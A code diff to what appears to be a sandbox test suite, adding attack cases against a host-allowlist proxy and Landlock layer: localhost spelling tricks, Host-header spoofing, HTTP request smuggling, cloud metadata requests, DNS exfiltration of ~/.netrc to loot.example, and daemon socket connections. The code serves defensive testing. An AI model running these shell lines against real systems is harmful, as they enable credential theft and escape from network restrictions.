@@ -13,6 +13,7 @@ READ, WRITE, LINK, NET, GIT, CI, RACE, ENV, PROCESS = (
 HIDDEN = "sandbox: what is not listed is not there"
 READ_ONLY = "sandbox: read-only outside the workspace"
 NO_NETWORK = "sandbox: no network"
+PROXY = "sandbox: proxy of named hosts"
 PROTECTED = "sandbox: protected paths"
 ASIDE = "sandbox: put aside"
 SCRUBBED = "environment of commands"
@@ -22,7 +23,7 @@ GUARD = "guard"
 
 @dataclass(frozen=True, slots=True)
 class Attack:
-    """A shell line; `{home}`, `{outside}`, `{tcp}`, `{udp}` and `{work}` stand for places of the world.
+    """A shell line; `{home}`, `{outside}`, `{tcp}`, `{udp}`, `{allowed}` and `{work}` stand for places of the world.
 
     `works` tells whether it succeeds without a sandbox; False where trying would harm this machine or needs more.
     """
@@ -32,6 +33,11 @@ class Attack:
     layer: str
     line: str
     works: bool = True
+    past_landlock: str = ""
+    """Why the weaker sandbox, without namespaces, does not stop it; empty where it does."""
+
+
+_MODES = "Landlock does not judge changes of modes, owners and times"
 
 
 def _read(name: str, line: str, *, works: bool = True) -> Attack:
@@ -76,7 +82,7 @@ FILES = (
     _read("by a here-document", "cat <<X\n$(<{home}/.netrc)\nX"),
 )
 WRITES = tuple(
-    Attack(WRITE, name, READ_ONLY, line, works)
+    Attack(WRITE, name, READ_ONLY, line, works, _MODES if "chmod 777" in line else "")
     for name, line, works in (
         ("bashrc", "echo 'evil' >> ~/.bashrc", True),
         ("profile", "echo 'evil' >> ~/.profile", True),
@@ -140,6 +146,9 @@ NETWORK = tuple(
         ("metadata service", "exec 3<>/dev/tcp/169.254.169.254/80", False),
         ("resolver", "getent hosts loot.example.com", False),
         ("abstract socket", "python3 -c \"import socket;s=socket.socket(1);s.connect('\\0/tmp/.X11-unix/X0')\"", False),
+        ("a daemon's socket", "python3 -c \"import socket;s=socket.socket(1);s.connect('{outside}/agent.sock')\"", True),
+        ("a daemon's socket by datagrams",
+         "python3 -c \"import socket;s,_=socket.socketpair(1,2);s.sendto(b'loot','{outside}/log.sock')\"", True),
         ("docker socket", "ls /var/run/docker.sock && exec 3<>/var/run/docker.sock", False),
         ("D-Bus", "python3 -c \"import socket;s=socket.socket(1);s.connect('/run/dbus/system_bus_socket')\"", False),
         ("ping", "ping -c1 -W1 127.0.0.1 && echo loot > /dev/udp/127.0.0.1/{udp}", False),
@@ -147,6 +156,39 @@ NETWORK = tuple(
         ("new network of its own", "unshare -n true; nsenter -t 1 -n sh -c 'echo x > /dev/udp/127.0.0.1/{udp}'", False),
     )
 )  # fmt: skip
+PROXIED = tuple(
+    Attack(NET, f"with hosts, {name}", layer, f"export NO_PROXY= no_proxy=; {line}", works)
+    for name, layer, line, works in (
+        ("another port by the proxy", PROXY, "curl -sm 5 -x $http_proxy http://localhost:{tcp}/loot", True),
+        ("a tunnel to another port", PROXY, "curl -sm 5 -px $http_proxy http://127.0.0.1:{tcp}/loot", True),
+        ("by an IPv4 address in IPv6", PROXY, "curl -sm 5 -px $http_proxy 'http://[::ffff:127.0.0.1]:{tcp}/loot'", False),
+        ("by another spelling of the address", PROXY,
+         "for host in 0.0.0.0 2130706433 0x7f.1 127.1 localhost. LOCALHOST; do curl -sm 5 -px $http_proxy http://$host:{tcp}/loot; done", True),
+        ("by a user name that looks like a host", PROXY, "curl -sm 5 -x $http_proxy http://allowed.example@127.0.0.1:{tcp}/loot", True),
+        ("by a Host header", PROXY, "curl -sm 5 -x $http_proxy -H 'Host: 127.0.0.1:{tcp}' http://localhost:{allowed}/loot", False),
+        ("by a second request on the connection", PROXY,
+         ("printf 'GET http://localhost:{allowed}/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\nGET http://127.0.0.1:{tcp}/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n' "
+         "> r; exec 3<>/dev/tcp/127.0.0.1/${http_proxy##*:}; cat r >&3; timeout 2 cat <&3"), False),
+        ("by two lengths", PROXY,
+         ("printf 'POST http://localhost:{allowed}/ HTTP/1.1\\r\\nHost: a\\r\\nContent-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
+         "GET http://127.0.0.1:{tcp}/ HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n' > r; exec 3<>/dev/tcp/127.0.0.1/${http_proxy##*:}; cat r >&3; timeout 2 cat <&3"), False),
+        ("metadata service by the proxy", PROXY, "curl -sm 5 -x $http_proxy http://169.254.169.254/latest/meta-data/", False),
+        ("a name that carries the loot", PROXY, "curl -sm 5 https://$(head -c 9 {home}/.netrc | base64 -w0).loot.example/; nslookup loot.example", False),
+        ("as a SOCKS proxy", PROXY, "curl -sm 5 -x socks5h://${http_proxy#http://} http://127.0.0.1:{tcp}/loot", False),
+        ("TCP past the proxy", NO_NETWORK, "exec 3<>/dev/tcp/127.0.0.1/{tcp}", True),
+        ("UDP past the proxy", NO_NETWORK, "echo loot > /dev/udp/127.0.0.1/{udp}", False),
+        ("DNS past the proxy", NO_NETWORK, "python3 -c \"import socket;socket.socket(2,2).sendto(b'loot.example',('127.0.0.1',{udp}))\"", False),
+        ("the proxy's channel", NO_NETWORK,
+         "for fd in /proc/[0-9]*/fd/*; do readlink $fd; done | grep socket && echo loot > /dev/udp/127.0.0.1/{udp}", False),
+        ("many connections at once", PROXY,
+         ("python3 -c \"import os,socket;a=os.environ['http_proxy'].split(':');o=[socket.create_connection(('127.0.0.1',int(a[2]))) for _ in range(100)];"
+          "[s.send(b'CONNECT 127.0.0.1:{tcp} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n') for s in o]\""), True),
+    )
+)  # fmt: skip
+"""In a sandbox that reaches `allowed.example` and the port `{allowed}` of this machine, where nobody listens.
+
+`works`: it succeeds where the port `{tcp}` is allowed.
+"""
 PLANTS = (
     *(
         Attack(GIT, name, layer, line, works)
